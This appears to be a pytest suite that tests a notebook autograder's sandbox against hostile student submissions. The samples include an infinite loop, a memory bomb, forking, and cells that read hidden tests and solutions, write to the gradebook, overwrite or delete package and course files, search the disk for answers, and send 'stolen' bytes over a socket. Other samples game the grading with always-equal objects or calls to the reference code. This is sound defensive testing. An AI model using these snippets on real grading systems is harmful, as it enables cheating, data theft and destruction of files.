"""The hostile-submission suite: `gpt-lab-grade` on one LMS zip of lab 1 submissions, most of them hostile.

Every notebook is built from the released lab notebook (labs/) by filling its cells, the way a student
would. The whole batch is graded once (`--jobs 2`, short time limit), then each row is checked: graded
correctly (partial scores where due) or given a clear status and message, and the well-behaved
submissions in the same batch unaffected (they are graded again on their own and must not change).
"""
import ast
import copy
import hashlib
import inspect
import json
import os
import re
import socket
import subprocess
import sys
import threading
import zipfile
from pathlib import Path
from typing import NamedTuple

import nbformat
import pytest

from grader import LABS, REPO, collect_checks, nbgrader_max_points, release, solution

import gpt_lab
import gpt_lab.attention
import gpt_lab_grader
from gpt_lab.cache import atomic_write, build_once
from gpt_lab_grader.report import read_grades_csv

LAB = "lab01-attention"
SPEC = LABS[LAB]
TIMEOUT_S = 10  # CPU seconds per cell and per call; the infinite loop costs two cells and two sandbox calls
MEMORY_MB = 3072
GRADE_WALL_S = 3600  # a backstop for a whole run: the limits inside count CPU time, and this machine may be busy

SDPA = '''def scaled_dot_product_attention(q, k, v, mask=None):
    scores = (q @ k.transpose(-2, -1)) * q.shape[-1] ** -0.5
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1).nan_to_num(0.0)
    return weights @ v, weights'''
SPLIT = '''def split_heads(x, n_head):
    B, T, C = x.shape
    return x.reshape(B, T, n_head, C // n_head).permute(0, 2, 1, 3)'''
MERGE = '''def merge_heads(x):
    B, H, T, D = x.shape
    return x.permute(0, 2, 1, 3).reshape(B, T, H * D)'''
MHA = '''def multi_head_attention(x, c_attn_weight, c_attn_bias, c_proj_weight, c_proj_bias, n_head, mask=None):
    qkv = x @ c_attn_weight.T
    if c_attn_bias is not None:
        qkv = qkv + c_attn_bias
    q, k, v = (split_heads(t, n_head) for t in qkv.chunk(3, dim=-1))
    y, weights = scaled_dot_product_attention(q, k, v, mask)
    y = merge_heads(y) @ c_proj_weight.T
    return (y if c_proj_bias is None else y + c_proj_bias), weights'''
CORRECT = {"sdpa": SDPA, "heads": SPLIT + "\n\n\n" + MERGE, "mha": MHA}
SOLUTION = solution(LAB)
NBGRADER_MAX = nbgrader_max_points(LAB)
_TMP = Path(os.environ.get("TMPDIR", "/tmp")) / f"gpt-lab-hostile-{os.getpid()}"
SOLUTION_COPIES = [_TMP / "elsewhere" / "old-course" / f"{LAB}.ipynb",  # a copy somewhere on disk
                   _TMP / "home" / "Downloads" / "answers.ipynb"]  # and one in the grader's $HOME
WRITE_TARGETS = [Path(gpt_lab.__file__).parent / "pwned.py", Path(gpt_lab_grader.__file__).parent / "labs" / "pwned.py",
                 REPO / "pwned.txt", REPO / "solutions" / "pwned.txt"]


def released():
    return nbformat.read(release(LAB), as_version=4)


def fill(nb=None, **cells):
    """The released notebook (or `nb`) with the solution cells named by grade id replaced."""
    nb = copy.deepcopy(nb or released())
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in cells:
            cell.source = cells[grade_id]
    return nb


def with_cell(nb, after_id, code):
    """Insert an ordinary code cell after the cell with grade id `after_id`."""
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after_id)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return nb


def by_id(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def hostile_notebooks():
    """student id -> notebook (or raw bytes)."""
    nbs = {"correct": fill(**CORRECT), "blank": released(), "partial": fill(sdpa=SDPA)}

    nbs["loop"] = fill(**{**CORRECT, "mha": MHA.replace("    qkv = x @", "    while True:\n        pass\n    qkv = x @")})

    bomb = MERGE.replace("    B, H, T, D = x.shape", "    hog = [bytes(1 << 28) for _ in range(256)]  # 64 GB")
    nbs["membomb"] = fill(**{**CORRECT, "heads": SPLIT + "\n\n\n" + bomb})

    nbs["badjson"] = json.dumps(nbformat.v4.writes(fill(**CORRECT)))[:-200].encode()

    nb = fill(**CORRECT)
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in ("heads", "test-heads")]
    nbs["deleted"] = nb

    nb = fill(**{**CORRECT, "mha": MHA.replace("def multi_head_attention(", "def mha(")})
    by_id(nb, "test-sdpa").metadata.nbgrader.update(grade_id="my-test", points=100)
    nbs["renamed"] = nb

    nb = fill(**{**CORRECT, "sdpa": SDPA.replace("* q.shape[-1] ** -0.5", "")})  # no scaling
    by_id(nb, "test-sdpa").source = "pass"
    by_id(nb, "test-sdpa").metadata.nbgrader["points"] = 100
    by_id(nb, "test-gpt").source = "print('all good')"
    nbs["tampered"] = nb

    liar = '''class Liar:
    """Equal to everything, whatever it is compared with."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __getattr__(self, name):
        return Liar()
    def __call__(self, *args, **kwargs):
        return Liar()
    def __bool__(self):
        return True


class Agreeable(torch.Tensor):
    def __eq__(self, other):
        return torch.ones_like(torch.as_tensor(other), dtype=torch.bool)


def scaled_dot_product_attention(q, k, v, mask=None):
    return Liar(), Liar()'''
    mha_liar = '''def multi_head_attention(x, c_attn_weight, c_attn_bias, c_proj_weight, c_proj_bias, n_head, mask=None):
    B, T, C = x.shape
    return torch.zeros_like(x).as_subclass(Agreeable), torch.zeros(B, n_head, T, T).as_subclass(Agreeable)'''
    nbs["alwaysequal"] = fill(**{**CORRECT, "sdpa": liar, "mha": mha_liar})

    check_file = SPEC.check_file
    snoop_fn = SDPA.replace("    scores =", f"""    try:
        open({str(SOLUTION)!r}).read()
    except Exception:
        pass
    scores =""", 1)
    nbs["snoop"] = with_cell(fill(**{**CORRECT, "sdpa": snoop_fn}), "sdpa", f"""import glob
for path in [{str(check_file)!r}, {str(SOLUTION)!r},  # the hidden checks, the solutions,
             "../autograded/snoop/{LAB}/{LAB}.ipynb",  # its own notebook with the hidden tests put back
             "../../correct/submitted/correct/{LAB}/{LAB}.ipynb"]:  # another student's notebook
    try:
        print(open(path).read()[:100])
    except Exception as exc:
        print("no luck:", exc)
try:
    print(glob.glob({str(REPO / 'tests' / 'labs')!r} + "/*"))
except Exception as exc:
    print("no luck:", exc)""")

    nbs["gradebook"] = with_cell(fill(**CORRECT), "sdpa", """import sqlite3
for attempt in (lambda: sqlite3.connect("../gradebook.db").execute("update grade set auto_score = 100"),
                lambda: open("../gradebook.db", "ab").write(b"x"),
                lambda: open("../../correct/gradebook.db", "ab").write(b"x")):
    try:
        attempt()
    except Exception as exc:
        print("no luck:", exc)""")

    exiting = MERGE.replace("    B, H, T, D = x.shape", "    import os\n    os._exit(0)")
    nbs["exits"] = fill(**{**CORRECT, "heads": SPLIT + "\n\n\n" + exiting})

    nb = with_cell(fill(**CORRECT), "sdpa", 'for _ in range(100):\n    print("x" * (1 << 20))  # 100 MB')
    nbs["flood"] = with_cell(nb, "heads", "import sys\nsys.exit('a sys.exit in a cell only fails that cell')")

    cheat = '''from gpt_lab.attention import scaled_dot_product_attention as _sdpa


def scaled_dot_product_attention(q, k, v, mask=None):
    return _sdpa(q, k, v, mask)'''
    nbs["cheat"] = fill(**{**CORRECT, "sdpa": cheat})

    borrow_sdpa = '''import gpt_lab.attention
from gpt_lab.attention import scaled_dot_product_attention as _helper  # an alias under another name


def scaled_dot_product_attention(q, k, v, mask=None, _keep=_helper):  # held by a default argument
    cells = getattr(_keep, "__closure__", None)  # a wrapping tripwire would hold the original in its closure
    original = cells[0].cell_contents if cells else _keep
    return original(q, k, v, mask)'''
    borrow_heads = '''import types


def split_heads(x, n_head):  # a method of the reference class, without constructing it
    return gpt_lab.attention.MultiHeadAttention.split_heads(types.SimpleNamespace(n_head=n_head), x)


''' + MERGE
    nbs["borrow"] = fill(**{**CORRECT, "sdpa": borrow_sdpa, "heads": borrow_heads})

    exec_sdpa = '''import gpt_lab.attention


def scaled_dot_product_attention(q, k, v, mask=None):  # gpt_lab's source run again, under other names
    source = open(gpt_lab.attention.__file__).read().replace("def scaled_dot_product_attention(", "def mine(")
    space = {"__name__": "my_attention"}
    exec(compile(source, "my_attention.py", "exec"), space)
    return space["mine"](q, k, v, mask)'''
    marshal_heads = '''import importlib.util, marshal, os, types
import gpt_lab.attention


def split_heads(x, n_head):  # a code object out of gpt_lab's bytecode: its cached .pyc (else made and unmarshalled)
    path = gpt_lab.attention.__file__
    pyc, stat = importlib.util.cache_from_source(path), os.stat(path)
    data = open(pyc, "rb").read() if os.path.exists(pyc) else b""
    if data[4:16] != bytes(4) + (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + stat.st_size.to_bytes(4, "little"):
        data = bytes(16) + marshal.dumps(compile(open(path).read(), path, "exec"))  # no fresh .pyc: the same bytes
    consts = marshal.loads(data[16:]).co_consts
    body = next(c for c in consts if isinstance(c, types.CodeType) and c.co_name == "MultiHeadAttention")
    code = next(c for c in body.co_consts if isinstance(c, types.CodeType) and c.co_name == "split_heads")
    mine = types.FunctionType(code.replace(co_name="mine", co_filename="mine.py"), vars(gpt_lab.attention))
    return mine(types.SimpleNamespace(n_head=n_head), x)


''' + MERGE
    nbs["copier"] = fill(**{**CORRECT, "sdpa": exec_sdpa, "heads": marshal_heads})

    copied = inspect.getsource(gpt_lab.attention.scaled_dot_product_attention)
    copied = re.sub(r'"""(.|\n)*?"""', '"""My own attention (honest)."""', copied, count=1)
    for old_name, new_name in (("scores", "s"), ("weights", "w"), ("empty", "nothing_to_see")):
        copied = re.sub(rf"\b{old_name}\b", new_name, copied)
    copied = copied.replace("q: torch.Tensor, k: torch.Tensor, v: torch.Tensor, mask: torch.Tensor | None = None",
                            "q, k, v, mask=None").replace(" -> tuple[torch.Tensor, torch.Tensor]", "")
    nbs["copycat"] = fill(**{**CORRECT, "sdpa": "import math\n\n\n" + copied})

    package, targets = Path(gpt_lab.__file__).parent, [str(t) for t in WRITE_TARGETS]
    write_all = f"""for _path in {targets!r}:
        try:
            with open(_path, "w") as _f:
                _f.write("pwned")
        except OSError:
            pass"""
    nbs["writer"] = with_cell(fill(**{**CORRECT, "sdpa": SDPA.replace("    scores =", f"    {write_all}\n    scores =", 1)}),
                              "sdpa", "import os, shutil\n" + write_all.replace("\n    ", "\n") + f"""
for _attempt in (lambda: os.remove({str(package / "attention.py")!r}),
                 lambda: shutil.rmtree({str(REPO / "labs")!r})):
    try:
        _attempt()
    except OSError as exc:
        print("no luck:", exc)""")

    places = [str(p) for p in SOLUTION_COPIES]
    # the search skips the interpreter's own installation: on a pyenv Python under /root that is 50,000 files, whose
    # reading alone takes most of the 10 CPU seconds a cell gets (a timeout then and then not: grades not repeatable)
    search = f"""import os, sys
_python = (os.path.realpath(sys.base_prefix), os.path.realpath(sys.prefix))
for _root in [os.path.expanduser("~"), "/tmp", "/root", "/home", *{[str(Path(p).parent) for p in places]!r}]:
    for _dir, _dirs, _files in os.walk(_root):
        if os.path.realpath(_dir).startswith(_python):
            _dirs[:] = []
            continue
        for _name in _files:
            _path = os.path.join(_dir, _name)
            try:
                if os.path.isfile(_path) and "BEGIN SOLUTION" in open(_path, errors="replace").read(1 << 20):
                    print("FOUND", _path)
            except OSError:
                pass"""
    peek = f"""    for _path in {places!r}:
        try:
            open(_path).read()
            return None, None  # found a copy: this answer is not graded right
        except OSError:
            pass
    scores ="""
    nbs["finder"] = with_cell(fill(**{**CORRECT, "sdpa": SDPA.replace("    scores =", peek, 1)}), "sdpa", search)

    dial = """    try:
        import socket
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
    except Exception as exc:
        print("no luck:", exc)"""
    nbs["socket"] = with_cell(fill(**{**CORRECT, "sdpa": SDPA.replace("    scores =", dial + "\n    scores =", 1)}),
                              "sdpa", "PORT = 0\n" + dial.replace("\n    ", "\n").strip())
    fork = """    try:
        import os
        if os.fork() == 0:
            os._exit(0)
    except Exception as exc:
        print("no luck:", exc)"""
    spawn = """import multiprocessing, subprocess
for _attempt in (lambda: multiprocessing.Process(target=print).start(), lambda: subprocess.run(["true"])):
    try:
        _attempt()
    except Exception as exc:
        print("no luck:", exc)"""
    forker = fill(**{**CORRECT, "heads": SPLIT + "\n\n\n" + MERGE.replace("    B, H, T, D", fork + "\n    B, H, T, D", 1)})
    nbs["forker"] = with_cell(forker, "heads", spawn + "\n" + fork.replace("\n    ", "\n").strip())
    return nbs


def _socket_notebooks(nbs, port):
    """The socket student dials the test's own listening port."""
    nb = nbs["socket"]
    for cell in nb.cells:
        cell.source = cell.source.replace("PORT = 0", f"PORT = {port}").replace('"127.0.0.1", PORT', f'"127.0.0.1", {port}')
    return nbs


def _snapshot(*folders):
    """{path: (size, mtime, sha256)} of every file under `folders` (what a hostile run must leave unchanged)."""
    state = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                data = path.read_bytes()
                state[str(path)] = (len(data), path.stat().st_mtime_ns, hashlib.sha256(data).hexdigest())
    return state


class Listener:
    """A TCP server on 127.0.0.1 that records every connection (none must arrive from a sandbox)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received, self.stop = [], threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100))
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.server.close()


def grade_archive(archive, out, env=None):
    """`gpt-lab-grade` on the archive, as an instructor runs it (--jobs 2)."""
    proc = subprocess.run([sys.executable, "-m", "gpt_lab_grader", LAB, str(archive), "--course", str(REPO), "--out",
                           str(out), "--jobs", "2", "--timeout", str(TIMEOUT_S), "--memory-mb", str(MEMORY_MB),
                           "--no-progress", "--wall-factor", "100"],
                          capture_output=True, text=True, timeout=GRADE_WALL_S, env=env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return out


@pytest.fixture(scope="module")
def batch(shared_tmp):
    """Grade all hostile notebooks in one run (a `Batch`).

    Graded once per test session: under pytest-xdist (`make test`, two workers) the first worker to ask
    grades, the other waits for the run and reads it."""
    root = shared_tmp / "hostile"
    return build_once(root / "batch.json", lambda: _grade_batch(root), _read_batch)


class Batch(NamedTuple):
    table: dict          # {student: row of grades.csv}
    out: Path            # the run's output folder
    archive: Path        # the LMS archive graded
    untouched: dict      # {what: nothing outside the workspace changed}
    env: dict            # the grader's environment ($HOME holds a copy of the solution)
    copies: list[str]    # where the copies of the solution lay (the grading worker's paths)


def _read_batch(path):
    run = json.loads(path.read_text())
    out = Path(run["out"])
    return Batch(read_grades_csv(out / "grades.csv"), out, Path(run["archive"]), run["untouched"], run["env"],
                 run["copies"])


def _grade_batch(root):
    """Copies of the solution lie outside the course (elsewhere on disk, and in the grader's $HOME), a server
    listens on localhost; the packages and the course are snapshotted before and compared after."""
    root.mkdir(parents=True, exist_ok=True)
    for copy_path in SOLUTION_COPIES:
        copy_path.parent.mkdir(parents=True, exist_ok=True)
    home = SOLUTION_COPIES[1].parent
    listener = Listener()
    archive = root / "canvas-download.zip"
    nbs = _socket_notebooks(hostile_notebooks(), listener.port)
    with zipfile.ZipFile(archive, "w") as z:  # Canvas names: <student>_<user id>_<submission id>_<file>
        for i, (student, nb) in enumerate(sorted(nbs.items())):
            data = nb if isinstance(nb, bytes) else nbformat.writes(nb).encode()
            late = "late_" if student == "partial" else ""
            z.writestr(f"{student}_{late}{1000 + i}_{5000 + i}_{LAB}.ipynb", data)
    for copy_path in SOLUTION_COPIES:
        copy_path.write_bytes(SOLUTION.read_bytes())
    watched = [Path(gpt_lab.__file__).parent, Path(gpt_lab_grader.__file__).parent, REPO / "solutions", REPO / "labs"]
    before, archive_bytes = _snapshot(*watched), archive.read_bytes()
    env = dict(os.environ, HOME=str(home), MPLCONFIGDIR=os.path.expanduser("~/.config/matplotlib"))
    try:
        out = grade_archive(archive, root / "out", env)
    finally:
        listener.close()
    untouched = {"packages and course": _snapshot(*watched) == before, "archive": archive.read_bytes() == archive_bytes,
                 "copies": all(p.read_bytes() == SOLUTION.read_bytes() for p in SOLUTION_COPIES),
                 "no connection": listener.received == []}
    run = {"out": str(out), "archive": str(archive), "untouched": untouched, "env": env,
           "copies": [str(p) for p in SOLUTION_COPIES]}
    atomic_write(root / "batch.json", lambda tmp: tmp.write_text(json.dumps(run)))
    return _read_batch(root / "batch.json")


def feedback(out, student):
    return (out / "feedback" / f"{student}.html").read_text()


def points(out, student):
    """{test or check name: (points, max, message)} from the student's feedback page."""
    rows = re.findall(r"<tr><td>([^<]+)</td><td class=pts>([\d.]+) / ([\d.]+)</td><td><span class=\"\w+\">\w+"
                      r"</span></td><td>(.*?)</td></tr>", feedback(out, student))
    return {name: (float(p), float(m), msg) for name, p, m, msg in rows}


def hidden_points(out, student, prefix):
    table = points(out, student)
    return sum(p for name, (p, _, _) in table.items() if name.startswith(prefix))


def hidden_max(prefix):
    return sum(p for name, p in collect_checks(LAB) if name.startswith(prefix))


def row(batch, student):
    return batch.table[student]


def score(batch, student):
    r = row(batch, student)
    return float(r["nbgrader_score"]), float(r["hidden_score"]), r["status"]


def test_every_student_has_a_row(batch):
    table, out = batch[:2]
    assert sorted(table) == sorted(hostile_notebooks())
    full = NBGRADER_MAX + SPEC.hidden_max_points
    assert {r["max"] for r in table.values()} == {f"{full:g}"}
    assert (out / "distribution.png").read_bytes()[:4] == b"\x89PNG"


def test_correct_and_blank(batch):
    assert score(batch, "correct") == (NBGRADER_MAX, SPEC.hidden_max_points, "ok")
    # code only: the written questions (graded by hand) are left as released
    assert row(batch, "correct")["message"] == "written answers left blank (0): q1, q2, q3"
    assert score(batch, "blank") == (0, 0, "ok")


def test_partial_credit(batch):
    nbg, hidden, status = score(batch, "partial")
    assert status == "ok"
    cells = points(batch.out, "partial")
    assert {n for n, (p, m, _) in cells.items() if n.startswith("test-") and p == m} == {"test-sdpa", "test-gpt"}
    assert nbg == cells["test-sdpa"][1] + cells["test-gpt"][1]
    assert hidden == hidden_max("test_sdpa") > 0
    assert "NotImplementedError" in cells["test-heads"][2]


def test_infinite_loop_is_stopped(batch):
    assert score(batch, "loop")[2] == "timeout"
    assert "time limit" in row(batch, "loop")["message"]
    cells = points(batch.out, "loop")
    assert "time limit" in cells["test-mha"][2] and cells["test-mha"][0] == 0
    assert [cells[name][0] for name in ("test-sdpa", "test-heads")] == [3, 2]  # what does not call the loop counts
    assert hidden_points(batch.out, "loop", "test_sdpa") == hidden_max("test_sdpa")
    assert hidden_points(batch.out, "loop", "test_split_heads") == hidden_max("test_split_heads")
    assert hidden_points(batch.out, "loop", "test_mha") == 0


def test_memory_bomb_fails_only_what_it_touches(batch):
    assert score(batch, "membomb")[2] == "ok"
    cells = points(batch.out, "membomb")
    assert "MemoryError" in cells["test-heads"][2] and cells["test-heads"][0] == 0
    assert cells["test-sdpa"][0] == cells["test-sdpa"][1]
    assert hidden_points(batch.out, "membomb", "test_merge_heads") == 0
    assert "memory" in cells["test_merge_heads[2-3-5-4]"][2]
    assert hidden_points(batch.out, "membomb", "test_split_heads") == hidden_max("test_split_heads")


def test_invalid_json_is_rejected_with_a_reason(batch):
    r = row(batch, "badjson")
    assert (r["status"], r["total"]) == ("invalid", "0")
    assert "not valid JSON" in r["message"]


def test_deleted_cells(batch):
    assert score(batch, "deleted")[2] == "ok"
    cells = points(batch.out, "deleted")
    assert "missing from your notebook" in cells["test-heads"][2] and cells["test-heads"][0] == 0
    assert cells["test-sdpa"][0] == 3 and hidden_points(batch.out, "deleted", "test_sdpa") == hidden_max("test_sdpa")
    assert "not defined" in cells["test_split_heads[2-5-12-3]"][2]
    assert hidden_points(batch.out, "deleted", "test_merge_heads") == 0


def test_renamed_cell_and_function(batch):
    assert score(batch, "renamed")[2] == "ok"
    cells = points(batch.out, "renamed")
    assert cells["test-sdpa"][:2] == (3, 3) and "put back" in cells["test-sdpa"][2]  # with its own points
    assert "my-test" not in cells
    assert cells["test-mha"][0] == 0 and hidden_points(batch.out, "renamed", "test_mha") == 0
    assert "renamed" in cells["test_mha_without_mask_or_bias"][2]


def test_tampered_visible_tests_are_restored(batch):
    assert score(batch, "tampered")[2] == "ok"
    cells = points(batch.out, "tampered")
    assert cells["test-sdpa"][:2] == (0, 3) and cells["test-gpt"][:2] == (0, 2)
    assert "restored" in row(batch, "tampered")["message"] and "test-sdpa" in row(batch, "tampered")["message"]
    assert hidden_points(batch.out, "tampered", "test_sdpa_without_mask") == 0
    assert hidden_points(batch.out, "tampered", "test_split_heads") == hidden_max("test_split_heads")


def test_always_equal_results_do_not_pass(batch):
    assert score(batch, "alwaysequal")[2] == "ok"
    cells = points(batch.out, "alwaysequal")
    assert cells["test-sdpa"][0] == 0 and cells["test-mha"][0] == 0
    assert hidden_points(batch.out, "alwaysequal", "test_sdpa") == 0
    assert hidden_points(batch.out, "alwaysequal", "test_mha") == 0
    assert hidden_points(batch.out, "alwaysequal", "test_split_heads") == hidden_max("test_split_heads")


def test_reading_tests_or_solutions_is_rejected(batch):
    r = row(batch, "snoop")
    assert (r["status"], r["total"]) == ("rejected", "0")
    assert "(denied)" in r["message"]
    page = feedback(batch.out, "snoop")  # lists every denied attempt
    for target in ("lab01_attention/checks.py", "solutions/lab01-attention", "autograded/snoop", "correct/submitted"):
        assert target in page
    assert "BEGIN SOLUTION" not in page and "def test_" not in page


def test_writing_the_gradebook_is_rejected(batch):
    r = row(batch, "gradebook")
    assert (r["status"], r["total"]) == ("rejected", "0") and "gradebook" in r["message"]
    assert score(batch, "correct")[:2] == (NBGRADER_MAX, SPEC.hidden_max_points)


def test_os_exit_kills_only_its_own_kernel(batch):
    nbg, hidden, status = score(batch, "exits")
    assert status == "crashed" and nbg == 0
    assert "died" in row(batch, "exits")["message"]
    assert hidden_points(batch.out, "exits", "test_sdpa") == hidden_max("test_sdpa")
    assert hidden_points(batch.out, "exits", "test_merge_heads") == 0


def test_output_flood_is_capped_and_sys_exit_fails_one_cell(batch):
    assert score(batch, "flood") == (NBGRADER_MAX, SPEC.hidden_max_points, "ok")
    assert "printed more than" in row(batch, "flood")["message"]
    executed = batch.out / "workspace" / "flood" / "autograded" / "flood" / LAB / f"{LAB}.ipynb"
    assert executed.stat().st_size < 5_000_000
    text = executed.read_text()
    assert "[output stopped by the grader after 1000000 characters]" in text  # by the kernel itself
    assert '"ename": "SystemExit"' in text  # the sys.exit cell failed, the kernel went on


def test_calling_the_reference_costs_that_function(batch):
    """A call of the reference scores 0 for the function that makes it (its notebook tests too), not the lab."""
    r = row(batch, "cheat")
    assert r["status"] == "review" and "instead of implementing it" in r["message"]
    cells = points(batch.out, "cheat")
    assert cells["test-sdpa"][0] == 0 and "calls gpt_lab&#x27;s reference" in cells["test-sdpa"][2]  # HTML-escaped
    assert hidden_points(batch.out, "cheat", "test_sdpa") == 0
    assert cells["test-heads"][:2] == (2, 2) and hidden_points(batch.out, "cheat", "test_split_heads") == hidden_max("test_split_heads")
    assert 0 < float(r["total"]) < float(r["max"])


def test_reference_reached_through_an_alias_a_method_and_a_closure(batch):
    r = row(batch, "borrow")
    assert r["status"] == "review"
    cells = points(batch.out, "borrow")
    assert hidden_points(batch.out, "borrow", "test_sdpa") == 0
    assert hidden_points(batch.out, "borrow", "test_split_heads") == 0
    assert "`split_heads` calls gpt_lab.attention.MultiHeadAttention.split_heads" in feedback(batch.out, "borrow")
    assert "`scaled_dot_product_attention` calls gpt_lab.attention.scaled_dot_product_attention" in \
        feedback(batch.out, "borrow")
    assert cells["test-sdpa"][0] == 0 and cells["test-heads"][0] == 0
    assert hidden_points(batch.out, "borrow", "test_merge_heads") == hidden_max("test_merge_heads") > 0


def test_copies_of_the_reference_made_at_run_time_cost_that_function(batch):
    """gpt_lab's source exec'd under another file and function name, a code object taken out of its bytecode
    (marshal): fresh functions the tripwire never saw; the copy watch flags them like a call of the reference."""
    r = row(batch, "copier")
    assert r["status"] == "review"
    page, cells = feedback(batch.out, "copier"), points(batch.out, "copier")
    assert "`scaled_dot_product_attention` calls gpt_lab.attention.scaled_dot_product_attention" in page
    assert "`split_heads` calls gpt_lab.attention.MultiHeadAttention.split_heads" in page
    assert hidden_points(batch.out, "copier", "test_sdpa") == 0 and hidden_points(batch.out, "copier", "test_split_heads") == 0
    assert cells["test-sdpa"][0] == 0 and cells["test-heads"][0] == 0
    assert hidden_points(batch.out, "copier", "test_merge_heads") == hidden_max("test_merge_heads") > 0
    assert 0 < float(r["total"]) < float(r["max"])


def test_a_copy_of_the_reference_is_marked_for_review_not_zeroed(batch):
    r = row(batch, "copycat")
    assert r["status"] == "review" and "same syntax tree as gpt_lab.attention.scaled_dot_product_attention" in r["message"]
    assert score(batch, "copycat")[:2] == (NBGRADER_MAX, SPEC.hidden_max_points)
    assert row(batch, "correct")["status"] == "ok"  # an answer written differently is not flagged


def test_writes_into_the_packages_and_the_course_are_rejected(batch):
    r = row(batch, "writer")
    assert (r["status"], r["total"]) == ("rejected", "0") and "writing there" in r["message"]
    assert not [t for t in WRITE_TARGETS if t.exists()]
    assert batch.untouched["packages and course"], "a submission changed the installed packages or the course"


def test_copies_of_the_solution_elsewhere_are_out_of_reach(batch):
    """Copies outside the course and in $HOME are not mounted in the sandbox: the search finds nothing, and
    the answer (which would break if it could read one) is graded right. Where the course itself lies under a
    folder the search walks (a clone in /tmp, as CI may make), the walk reaches the course's masked files and
    the audit hook refuses that read: then the submission is rejected with the hook's message, which the
    issue allows ("graded right or rejected with a clear message"). Either way nothing is found."""
    r = row(batch, "finder")
    refused = r["status"] == "rejected" and ("denied" in r["message"] or "does not allow" in r["message"])
    assert refused or score(batch, "finder") == (NBGRADER_MAX, SPEC.hidden_max_points, "ok"), r
    executed = batch.out / "workspace" / "finder" / "autograded" / "finder" / LAB / f"{LAB}.ipynb"
    # what the search prints for a copy it could read (a rejected run may stop before a notebook is written);
    # files that merely contain the marker (nbgrader's own test fixtures in the venv, the release code) do not count
    text = executed.read_text() if executed.exists() else ""
    secret = batch.copies + [str(REPO / "solutions"), str(REPO / "tests")]
    assert not any(f"FOUND {place}" in text for place in secret)
    assert batch.untouched["copies"]


def test_sockets_reach_nothing_and_are_rejected_in_the_checks(batch):
    r = row(batch, "socket")
    assert (r["status"], r["total"]) == ("rejected", "0") and "socket" in r["message"]
    assert batch.untouched["no connection"], "a sandboxed notebook reached a server on localhost"


def test_forking_is_rejected(batch):
    r = row(batch, "forker")
    assert (r["status"], r["total"]) == ("rejected", "0") and "os.fork" in r["message"]
    log = (batch.out / "workspace" / "forker" / "guard.log").read_text()
    assert "os.fork" in log or "_posixsubprocess.fork_exec" in log or "subprocess.Popen" in log


def test_lms_user_id_and_late_flag_are_kept(batch):
    table = batch.table
    assert table["partial"]["late"] == "late" and table["correct"]["late"] == ""
    assert table["correct"]["lms_user_id"].isdigit()
    assert table["partial"]["hidden:test_split_heads[2-5-12-3]"] == "0"
    assert table["correct"]["nb:test-sdpa"] == "3"


# Whose grades hang on a limit or on the time things take (CPU limits, memory, output caps, a file search, dying
# processes), with two ordinary submissions beside them: graded again, they show whether a grade is reproducible.
REGRADED = ("correct", "partial", "loop", "membomb", "flood", "finder", "exits", "forker", "snoop")


def test_a_second_run_gives_the_same_rows(batch, tmp_path):
    """The submissions whose grades hang on limits, graded again from the same LMS archive (--jobs 2, the machine as
    loaded as it is): the same rows, byte for byte, and the same feedback pages."""
    archive = tmp_path / "again.zip"
    with zipfile.ZipFile(batch.archive) as whole, zipfile.ZipFile(archive, "w") as part:
        for name in whole.namelist():
            if name.split("_")[0] in REGRADED:
                part.writestr(name, whole.read(name))
    again = grade_archive(archive, tmp_path / "again", batch.env)
    table = read_grades_csv(again / "grades.csv")
    assert sorted(table) == sorted(REGRADED)
    for student in REGRADED:
        assert table[student] == batch.table[student], student
        assert feedback(again, student) == feedback(batch.out, student), student


def _secret_lines():
    """Lines of hidden tests and reference answers (from solutions/) and of the check file's code."""
    source = nbformat.read(SOLUTION, as_version=4)
    lines = []
    for cell in source.cells:
        for block in re.findall(r"### BEGIN (?:HIDDEN TESTS|SOLUTION)\n(.*?)### END", cell.source, re.S):
            lines += block.splitlines()
    tree = ast.parse(SPEC.check_file.read_text())
    docstrings = {ast.get_docstring(n) for n in ast.walk(tree) if isinstance(n, (ast.FunctionDef, ast.Module))}
    code = SPEC.check_file.read_text().splitlines()
    lines += [line for line in code if not any(line.strip() in (d or "") for d in docstrings)]
    return {line.strip() for line in lines if len(line.strip()) > 25 and not line.strip().startswith("#")}


def test_feedback_never_shows_hidden_tests_or_answers(batch):
    secrets = _secret_lines()
    assert len(secrets) > 20
    for student in batch.table:
        page = feedback(batch.out, student)
        leaked = [s for s in secrets if s in page]
        assert not leaked, f"{student}'s feedback shows {leaked[:3]}"


def test_only_regrades_one_student_and_touches_nothing_else(batch, tmp_path):
    """`--only partial` on a copy of the run: that row and page are graded again (the same), every other
    student's row, page and workspace is left as it was."""
    table, out, archive = batch[:3]
    copy_out = tmp_path / "out"
    subprocess.run(["cp", "-a", str(out), str(copy_out)], check=True)
    kept = _snapshot(copy_out / "feedback", copy_out / "workspace" / "correct")
    page = copy_out / "feedback" / "partial.html"
    page.write_text("stale")
    proc = subprocess.run([sys.executable, "-m", "gpt_lab_grader", LAB, str(archive), "--course", str(REPO), "--out",
                           str(copy_out), "--only", "partial", "--jobs", "2", "--timeout", str(TIMEOUT_S),
                           "--memory-mb", str(MEMORY_MB), "--no-progress", "--wall-factor", "100"],
                          capture_output=True, text=True, timeout=GRADE_WALL_S, env=batch.env)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert (copy_out / "grades.csv").read_bytes() == (out / "grades.csv").read_bytes()
